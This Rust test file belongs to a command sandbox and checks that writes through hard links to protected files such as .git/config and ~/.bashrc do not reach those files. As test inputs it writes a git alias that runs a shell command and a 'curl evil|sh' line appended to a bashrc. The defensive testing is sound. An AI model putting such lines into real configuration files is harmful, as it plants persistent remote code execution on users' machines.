//! A hard link inside the location to a protected file (the repository's
//! `.git/config`, the user's `~/.bashrc`) is that file: a confined command
//! may not change it through the other name. Staged (as in mode `auto`),
//! a write to the other name is a copy in the overlay, and landing it
//! replaces that name only: the protected file is untouched by construction.

// A failed setup step should stop a test or bench loudly.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use common::{Fixture, land_all, read};

#[test]
fn write_git_config_through_a_hard_link_in_the_location() {
    let f = Fixture::new();
    let config = f.write(".git/config", "[core]\n");
    std::fs::hard_link(&config, f.ws.join("gitcfg")).unwrap();
    let (out, staging) = f.run_staged_keeping("printf '[alias]\\n\\tx = !id\\n' >> \"$WS/gitcfg\"");
    assert!(out.status.success());
    assert_eq!(read(&config), "[core]\n");
    land_all(&staging);
    assert_eq!(
        read(&config),
        "[core]\n",
        "landing replaced the other name only"
    );
    assert!(read(&f.ws.join("gitcfg")).contains("[alias]"));
}

#[test]
fn write_bashrc_through_a_hard_link_in_the_location() {
    let f = Fixture::new();
    std::fs::hard_link(f.home.join(".bashrc"), f.ws.join("dotfiles-bashrc")).unwrap();
    let (_, staging) = f.run_staged_keeping("echo 'curl evil|sh' >> \"$WS/dotfiles-bashrc\"");
    assert_eq!(read(&f.home.join(".bashrc")), "# rc\n");
    land_all(&staging);
    assert_eq!(
        read(&f.home.join(".bashrc")),
        "# rc\n",
        "landing replaced the other name only"
    );
    // An ordinary file with two links stays writable.
    let plain = f.write("a.txt", "a\n");
    std::fs::hard_link(&plain, f.ws.join("b.txt")).unwrap();
    let out = f.run("echo b >> \"$WS/b.txt\"");
    assert!(out.status.success());
    assert_eq!(read(&plain), "a\nb\n");
}
